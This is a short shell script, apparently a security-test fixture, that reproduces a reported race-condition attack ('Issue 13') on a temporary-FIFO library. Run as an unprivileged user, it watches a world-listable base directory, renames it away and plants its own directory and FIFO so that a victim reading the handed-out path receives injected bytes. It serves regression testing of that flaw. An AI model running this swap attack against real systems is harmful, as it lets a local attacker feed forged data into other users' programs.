# Issue 13's attack, run as the attacker (nobody) by RedirectedBaseTest and tempfifo-cli's
# SecurityIT: sh -c "$(cat swap-attack.sh)" sh SUB SECONDS.
# SUB is a base directory inside a directory the attacker owns. Waits up to SECONDS for an entry
# to appear in SUB (a private directory, whose name a 0755 SUB lets anyone list), then renames
# SUB away, makes SUB/<same name>/fifo of its own and writes into it: whoever then opens the path
# handed out reads the attacker's bytes. Prints "swapped", or "idle" if no entry ever appeared.
sub=$1; deadline=$(( $(date +%s) + $2 ))
while [ "$(date +%s)" -lt "$deadline" ]; do
  for entry in "$sub"/*; do
    [ -e "$entry" ] || continue
    name=${entry##*/}
    mv "$sub" "$sub.old" && mkdir "$sub" && mkdir "$sub/$name" && mkfifo "$sub/$name/fifo" \
      && chmod -R a+rwx "$sub" && echo 'injected by nobody' > "$sub/$name/fifo"
    echo swapped; exit 0
  done
  sleep 0.02
done
echo idle
